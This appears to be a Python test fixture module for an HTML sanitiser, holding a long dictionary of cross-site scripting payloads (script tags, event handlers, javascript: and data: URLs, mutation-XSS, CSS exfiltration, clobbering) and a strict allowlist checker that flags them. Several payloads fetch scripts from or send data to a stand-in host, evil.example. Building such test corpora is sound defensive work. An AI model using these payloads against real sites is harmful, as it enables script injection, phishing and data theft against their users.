@@ -1,0 +1,327 @@
+"""Markup that attackers write, and a reader of markup that forgives nothing.
+
+Each of PAYLOADS calls `pwned()`, or asks a foreign host for something, in a browser that gets it as it is
+or after a mistake of a sanitiser. `faults` is deliberately no part of what it checks: it knows the rule
+(docs/decisions.md #11) and not how the rule is kept.
+"""
+
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+TAGS = frozenset(
+    ["p", "br", "ul", "ol", "li", "h2", "h3", "h4", "h5", "blockquote", "strong", "b", "em", "i", "u", "a"]
+)
+SCHEMES = ("http:", "https:", "mailto:", "tel:")
+
+_DEEP = 600  # browsers flatten what is nested deeper than 512
+
+PAYLOADS: dict[str, str] = {
+    # --- scripts ---
+    "script": "<script>pwned()</script>",
+    "script-src": "<script src=//evil.example/x.js></script>",
+    "script-case": "<ScRiPt>pwned()</sCrIpT>",
+    "script-slash": "<script/x>pwned()</script/x>",
+    "script-newline": "<script\n>pwned()</script\n>",
+    "script-unclosed": "<script>pwned()",
+    "script-nested": "<scr<script>ipt>pwned()</scr</script>ipt>",
+    "script-in-attribute": '<p title="</p><script>pwned()</script>">x</p>',
+    "script-double-open": "<<script>pwned()//<</script>",
+    "script-module": "<script type=module>import 'https://evil.example/x.js'</script>",
+    "script-importmap": '<script type=importmap>{"imports":{"a":"//evil.example/a.js"}}</script>',
+    "script-long-s": "<ſcript>pwned()</ſcript>",
+    "script-full-width": "＜script＞pwned()＜/script＞",
+    "script-nul": "<scr\0ipt>pwned()</scr\0ipt>",
+    "script-comment-state": "<script><!--<script></script>pwned()//--></script>",
+    # --- event handlers ---
+    "img-onerror": "<img src=x onerror=pwned()>",
+    "img-onerror-slashes": "<img/src=x/onerror=pwned()>",
+    "img-onerror-backtick": "<img src=`x` onerror=`pwned()`>",
+    "img-onerror-entities": "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&lpar;&rpar;>",
+    "img-onerror-form-feed": "<img\x0csrc=x\x0conerror=pwned()>",
+    "img-onerror-case": "<IMG SRC=x OnErRoR=pwned()>",
+    "img-onerror-unclosed": "<img src=x onerror=pwned() ",
+    "img-onerror-nul": "<img src=x on\0error=pwned()>",
+    "img-srcset": "<img srcset=//evil.example/1.png onload=pwned() onerror=pwned()>",
+    "img-lowsrc": "<img lowsrc=javascript:pwned() dynsrc=javascript:pwned() src=//evil.example/pixel>",
+    "image-tag": "<image src=x onerror=pwned()>",
+    "picture-source": "<picture><source srcset=//evil.example/1.png><img onerror=pwned() src=x></picture>",
+    "p-onmouseover": '<p onmouseover="pwned()" onclick="pwned()">x</p>',
+    "p-quoteless": "<p x='\"'onclick=pwned()>x</p>",
+    "a-onclick-after-href": "<a href='https://x.example'onclick=pwned()>x</a>",
+    "a-attribute-breakout": "<a href='https://x.example/\"onfocus=pwned() autofocus x=\"'>x</a>",
+    "a-attribute-breakout-entities": (
+        '<a href="https://x.example/&quot; '
+        'autofocus onfocus=&quot;pwned()">x</a>'
+    ),
+    "autofocus-input": "<input autofocus onfocus=pwned()>",
+    "autofocus-select": "<select autofocus onfocus=pwned()><option>x</select>",
+    "autofocus-textarea": "<textarea autofocus onfocus=pwned()></textarea>",
+    "autofocus-tabindex": "<p tabindex=1 autofocus onfocus=pwned()>x</p>",
+    "contenteditable": "<p contenteditable autofocus onfocus=pwned()>x</p>",
+    "details": "<details open ontoggle=pwned()><summary>x</summary></details>",
+    "video": "<video><source onerror=pwned() src=x></video>",
+    "video-poster": "<video poster=//evil.example/p.png src=x onerror=pwned() autoplay></video>",
+    "audio": "<audio src=x onerror=pwned() autoplay></audio>",
+    "track": "<video autoplay><track default src=//evil.example/t.vtt oncuechange=pwned()></video>",
+    "marquee": "<marquee onstart=pwned() loop=1>x</marquee>",
+    "body-onload": "<body onload=pwned() background=//evil.example/b.png>x</body>",
+    "frameset": "<frameset onload=pwned()><frame src=javascript:pwned()></frameset>",
+    "transition": "<p style='transition:1s' ontransitionend=pwned()>x</p>",
+    "animation": "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=pwned()>x</b>",
+    "content-visibility": "<p oncontentvisibilityautostatechange=pwned() style=content-visibility:auto>x</p>",
+    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned()>x</p>",
+    "dialog": "<dialog open onclose=pwned()><form method=dialog><button autofocus>x</button></form></dialog>",
+    "custom-element": "<x-y onfocus=pwned() tabindex=1 autofocus is=z>x</x-y>",
+    "unknown-tag": "<xss onpointerrawupdate=pwned() id=x style=position:fixed;inset:0>x</xss>",
+    # --- addresses ---
+    "href-javascript": "<a href=javascript:pwned()>x</a>",
+    "href-javascript-case": "<a href=JaVaScRiPt:pwned()>x</a>",
+    "href-javascript-tab": "<a href='java\tscr\nipt\r:pwned()'>x</a>",
+    "href-javascript-tab-entities": "<a href='java&Tab;scr&NewLine;ipt&#13;&colon;pwned()'>x</a>",
+    "href-javascript-control": "<a href='&#1;&#31; javascript:pwned()'>x</a>",
+    "href-javascript-decimal": "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58pwned()>x</a>",
+    "href-javascript-zeros": "<a href='&#0000106avascript&#0000058;pwned()'>x</a>",
+    "href-javascript-hex": "<a href='&#x6A;avascript&#x3A;pwned()'>x</a>",
+    "href-javascript-nul": "<a href='java\0script:pwned()'>x</a>",
+    "href-javascript-nul-entity": "<a href='java&#0;script:pwned()'>x</a>",
+    "href-javascript-comment": "<a href='javascript://x.example/%0apwned()'>x</a>",
+    "href-javascript-percent": "<a href='javascript:%70wned()'>x</a>",
+    "href-javascript-percent-scheme": "<a href='%6aavascript:pwned()'>x</a>",
+    "href-javascript-full-width": "<a href='ｊavascript:pwned()'>x</a>",
+    "href-javascript-zero-width": "<a href='java\u200bscript:pwned()'>x</a>",
+    "href-javascript-nbsp": "<a href='\u00a0javascript:pwned()'>x</a>",
+    "href-javascript-bom": "<a href='\ufeffjavascript:pwned()'>x</a>",
+    "href-javascript-twice": "<a href=https://x.example href=javascript:pwned()>x</a>",
+    "href-javascript-first": "<a href=javascript:pwned() href=https://x.example>x</a>",
+    "href-vbscript": "<a href='vbscript:pwned()'>x</a>",
+    "href-livescript": "<a href='livescript:pwned()'>x</a>",
+    "href-data": "<a href='data:text/html,<script>pwned()</script>'>x</a>",
+    "href-data-base64": "<a href='DATA:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>x</a>",
+    "href-view-source": "<a href='view-source:javascript:pwned()'>x</a>",
+    "href-feed": "<a href='feed:javascript:pwned()'>x</a>",
+    "href-blob": "<a href='blob:https://x.example/0'>x</a>",
+    "href-file": "<a href='file:///etc/passwd'>x</a>",
+    "href-filesystem": "<a href='filesystem:https://x.example/temporary/x.html'>x</a>",
+    "href-intent": "<a href='intent:#Intent;scheme=x;end'>x</a>",
+    "href-protocol-relative": "<a href=//evil.example/login>x</a>",
+    "href-backslashes": "<a href='\\\\evil.example\\login'>x</a>",
+    "href-slash-backslash": "<a href='/\\evil.example/login'>x</a>",
+    "href-slash-tab-slash": "<a href='/\t/evil.example/login'>x</a>",
+    "href-relative": "<a href=../../admin/logout/>x</a>",
+    "href-fragment": "<a href='#constructor'>x</a>",
+    "href-credentials": "<a href='https://site.example@evil.example/'>x</a>",
+    "href-direction": "<a href='https://evil.example/\u202egpj.exe'>\u202ex</a>",
+    "a-target-ping": (
+        "<a href=https://x.example target=opener "
+        "ping=//evil.example/ping download rel=opener>x</a>"
+    ),
+    "a-xlink": "<a xlink:href=javascript:pwned() xml:base=javascript:pwned()//>x</a>",
+    "a-attributionsrc": "<a href=https://x.example attributionsrc=//evil.example/a>x</a>",
+    "area": "<map name=m><area href=javascript:pwned() shape=default></map><img usemap=#m src=x>",
+    "form-action": "<form action=javascript:pwned()><input type=submit></form>",
+    "formaction": "<form id=f></form><button form=f formaction=javascript:pwned()>x</button>",
+    "isindex": "<isindex type=image src=1 onerror=pwned() action=javascript:pwned()>",
+    "blockquote-cite": "<blockquote cite=javascript:pwned()>x</blockquote>",
+    "table-background": "<table background=//evil.example/b.png><td background=javascript:pwned()>x</table>",
+    # --- frames, objects, the page itself ---
+    "iframe": "<iframe src=javascript:pwned()></iframe>",
+    "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "iframe-srcdoc-entities": (
+        "<iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;' "
+        "onload=pwned()></iframe>"
+    ),
+    "iframe-data": "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe>",
+    "fencedframe": "<fencedframe src=//evil.example></fencedframe><portal src=//evil.example></portal>",
+    "object": (
+        "<object data=javascript:pwned() onerror=pwned()>"
+        "<param name=src value=javascript:pwned()></object>"
+    ),
+    "embed": "<embed src=//evil.example/x.swf allowscriptaccess=always onload=pwned()>",
+    "applet": "<applet code=x archive=//evil.example/x.jar></applet>",
+    "base": "<base href=//evil.example/><a href=x>x</a>",
+    "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
+    "meta-charset": "<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-",
+    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
+    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css onload=pwned() onerror=pwned()>",
+    "link-prefetch": (
+        "<link rel=dns-prefetch href=//evil.example><link "
+        "rel=preload as=script href=//evil.example/x>"
+    ),
+    "link-import": "<link rel=import href=//evil.example/x.html>",
+    "bgsound": "<bgsound src=javascript:pwned()><layer src=//evil.example/x.js></layer>",
+    # --- styles ---
+    "style-url": "<p style=\"background:url('//evil.example/b.png')\">x</p>",
+    "style-url-javascript": "<p style='background:url(javascript:pwned())'>x</p>",
+    "style-expression": (
+        "<p style='width:expression(pwned());behavior:url(x.htc);-moz-binding:url(x.xml)'>x"
+        "</p>"
+    ),
+    "style-escapes": "<p style='b\\61ckground:\\75rl(//evil.example/b.png)'>x</p>",
+    "style-import": "<style>@import '//evil.example/x.css';</style>x",
+    "style-import-link": "<style>@im\\port'\\ja\\vasc\\ript:pwned()';</style>x",
+    "style-exfiltration": "<style>input[value^=a]{background:url(//evil.example/a)}</style>x",
+    "style-overlay": "<a href=https://evil.example style='position:fixed;inset:0;opacity:0'>x</a>",
+    "font": "<font color=red face=x style='x:expression(pwned())'>x</font>",
+    # --- foreign namespaces ---
+    "svg-onload": "<svg onload=pwned()>",
+    "svg-onload-slash": "<svg/onload=pwned()//",
+    "svg-script": "<svg><script>pwned()</script></svg>",
+    "svg-script-href": "<svg><script xlink:href=data:,pwned() /></svg>",
+    "svg-script-cdata": "<svg><script><![CDATA[pwned()]]></script></svg>",
+    "svg-script-entities": "<svg><script>&#112wned()</script></svg>",
+    "svg-a": "<svg><a xlink:href=javascript:pwned()><text x=20 y=20>x</text></a></svg>",
+    "svg-animate": "<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>",
+    "svg-set": "<svg><a><set attributeName=xlink:href to=javascript:pwned() /><text>x</text></a></svg>",
+    "svg-animate-onbegin": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
+    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'/></svg>",
+    "svg-image": "<svg><image href=//evil.example/1.png onerror=pwned() /></svg>",
+    "svg-foreign-object": (
+        "<svg><foreignObject><iframe src=javascript:pwned()>"
+        "</iframe></foreignObject></svg>"
+    ),
+    "svg-style": "<svg><style>*{background:url(//evil.example/b.png)}</style></svg>",
+    "svg-handler": "<svg xmlns:ev=x><handler ev:event=load>pwned()</handler></svg>",
+    "math-href": "<math href=javascript:pwned()><mtext>x</mtext></math>",
+    "math-maction": "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
+    # --- what is harmless until it is parsed a second time ---
+    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
+    "mxss-style": '<style><p title="</style><img src=x onerror=pwned()>">',
+    "mxss-svg-style": '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
+    "mxss-math-style": '<math></p><style><!--</style><img src/onerror=pwned()>',
+    "mxss-mglyph": (
+        "<math><mtext><table><mglyph><style><!--</style><img "
+        "title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>"
+    ),
+    "mxss-mglyph-form": (
+        "<form><math><mtext></form><form><mglyph>"
+        "<style></math><img src onerror=pwned()></style></mglyph></form>"
+    ),
+    "mxss-malignmark": "<math><mtext><table><malignmark><style><![CDATA[</style><img src onerror=pwned()>]]>",
+    "mxss-annotation": (
+        "<math><annotation-xml encoding='text/html'>"
+        "<style><img src onerror=pwned()></style></annotation-xml></math>"
+    ),
+    "mxss-desc-title": "<svg><desc><title><style></title><img src onerror=pwned()></style></desc></svg>",
+    "mxss-template": "<template><p title='</template><img src=x onerror=pwned()>'></template>",
+    "mxss-shadow-root": "<p><template shadowrootmode=open><img src=x onerror=pwned()></template></p>",
+    "mxss-form-nesting": (
+        "<form><div></form><form><svg><style></form>"
+        "<img src=x onerror=pwned()></style></svg></form>"
+    ),
+    "mxss-table": "<table><td><a href='</td></table><img src=x onerror=pwned()>'>x</table>",
+    "mxss-foster-parent": "<table><a href=javascript:pwned()>x</a><script>pwned()</script><tr><td>y</table>",
+    "mxss-foster-select": "<select><template><table><img src=x onerror=pwned()></table></template></select>",
+    "mxss-select": "<select><style></select><img src=x onerror=pwned()></style></select>",
+    "mxss-select-option": "<select><option><script>pwned()</script><iframe src=javascript:pwned()></select>",
+    "mxss-caption": (
+        "<table><caption><svg><title><table><caption>"
+        "</caption></table><img src onerror=pwned()></title>"
+    ),
+    "mxss-p-in-a": "<a href=https://x.example><table><a href=javascript:pwned()>x</a></table></a>",
+    "mxss-adoption": "<a href=javascript:pwned()><p><a><b><p></a><img src=x onerror=pwned()></b>",
+    "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=pwned()>'></textarea>",
+    "mxss-title": "<title><a title='</title><img src=x onerror=pwned()>'></title>",
+    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=pwned()>'></xmp>",
+    "mxss-noembed": "<noembed><p title='</noembed><img src=x onerror=pwned()>'></noembed>",
+    "mxss-noframes": "<noframes><p title='</noframes><img src=x onerror=pwned()>'></noframes>",
+    "mxss-iframe": "<iframe><p title='</iframe><img src=x onerror=pwned()>'></iframe>",
+    "mxss-listing": "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
+    "mxss-plaintext": "<plaintext><img src=x onerror=pwned()></plaintext>",
+    "mxss-deep": "<b>" * _DEEP + "<svg><style><img src=x onerror=pwned()></style></svg>" + "</b>" * _DEEP,
+    "mxss-deep-blocks": (
+        "<blockquote>" * _DEEP + "<table><a href=javascript:pwned()>x" + "</blockquote>" * _DEEP
+    ),
+    # --- comments, declarations, broken markup ---
+    "comment": "<!--<img src=x onerror=pwned()>-->x",
+    "comment-short": "<!--><img src=x onerror=pwned()>-->",
+    "comment-short-dash": "<!---><img src=x onerror=pwned()>-->",
+    "comment-bang": "<!-- --!><img src=x onerror=pwned()> -->",
+    "comment-nested": "<!--<!--><img src=x onerror=pwned()>-->",
+    "comment-unclosed": "<!--<img src=x onerror=pwned()>",
+    "comment-conditional": "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
+    "comment-downlevel": "<![if !IE]><script>pwned()</script><![endif]>",
+    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
+    "cdata-broken": "<![CDATA[><img src=x onerror=pwned()>]]>",
+    "processing": "<?xml-stylesheet href='javascript:pwned()'?><?php ><img src=x onerror=pwned()> ?>",
+    "doctype": "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=pwned()>'>]>&x;",
+    "xml-island": "<xml id=x><a><b>&lt;script>pwned()&lt;/script></b></a></xml>",
+    "broken-tag": "<p<img src=x onerror=pwned()>",
+    "broken-end-tag": "</p onclick=pwned()><//img src=x onerror=pwned()></ img src=x onerror=pwned()>",
+    "broken-quotes": '<img """><script>pwned()</script>">',
+    "broken-equals": "<p =onclick=pwned() =><img = src=x =  onerror=pwned()>",
+    "broken-angle": "<a href=https://x.example/<img/src=x/onerror=pwned()>x</a>",
+    "wrapper-in-attribute": "<a href='https://x.example/</div >\" onclick=pwned()'>x</a>",
+    "double-encoded": (
+        "&lt;img src=x onerror=pwned()&gt; "
+        "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;"
+    ),
+    "entities-without-end": "&ltscript&gtpwned()&lt/script&gt",
+    "charset-multibyte": "<img title=\"\u0100\ufffd\"onerror=pwned() src=x>",
+    # --- clobbering, templates of frameworks ---
+    "clobber-id": "<a id=x><a id=x name=y href=javascript:pwned()>x</a><form id=document name=cookie></form>",
+    "clobber-name": "<img name=getElementById><a name=innerHTML href=https://x.example>x</a><form id=body>",
+    "framework-attributes": (
+        "<p x-data x-init=pwned() v-html=pwned() ng-app "
+        "ng-init=pwned() hx-on:load=pwned()>x</p>"
+    ),
+    "htmx": "<p hx-get=//evil.example/x hx-trigger=load data-hx-get=//evil.example>x</p>",
+}  # fmt: skip
+
+
+def faults(html: str) -> list[str]:
+    """Return what is wrong with `html` as a text to be stored; nothing for one that may be."""
+    reader = _Reader()
+    reader.feed(html)
+    if reader.rawdata:
+        reader.faults.append(f"ends within {reader.rawdata[:40]!r}")
+    reader.close()
+    if reader.open:
+        reader.faults.append(f"leaves open {reader.open}")
+    return reader.faults
+
+
+class _Reader(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=False)
+        self.faults: list[str] = []
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: Any) -> None:
+        written = self.get_starttag_text() or ""
+        if tag not in TAGS:
+            self.faults.append(f"tag {tag}")
+        if not re.fullmatch(r'<[a-z0-9]+(?: href="[^"<>]*")?>', written):
+            self.faults.append(f"written {written!r}")
+        for name, value in attrs:
+            if (tag, name) != ("a", "href"):
+                self.faults.append(f"attribute {name} of {tag}")
+            elif not as_browsers_read(value or "").startswith(SCHEMES):
+                self.faults.append(f"address {value!r}")
+        if tag != "br":
+            self.open.append(tag)
+
+    def handle_startendtag(self, tag: str, attrs: Any) -> None:
+        self.faults.append(f"self-closed {tag}")
+
+    def handle_endtag(self, tag: str) -> None:
+        if not self.open or self.open.pop() != tag:
+            self.faults.append(f"end of {tag}")
+
+    def handle_data(self, data: str) -> None:
+        if re.search("[<>\0]", data):
+            self.faults.append(f"bare {data!r}")
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append(f"comment {data!r}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.faults.append(f"declaration {decl!r}")
+
+    unknown_decl = handle_decl
+    handle_pi = handle_decl
+
+
+def as_browsers_read(address: str) -> str:
+    """Return `address` in small letters, less what browsers skip before they look for a scheme."""
+    return re.sub("[\t\n\r]", "", address).lstrip("".join(map(chr, range(33)))).lower()
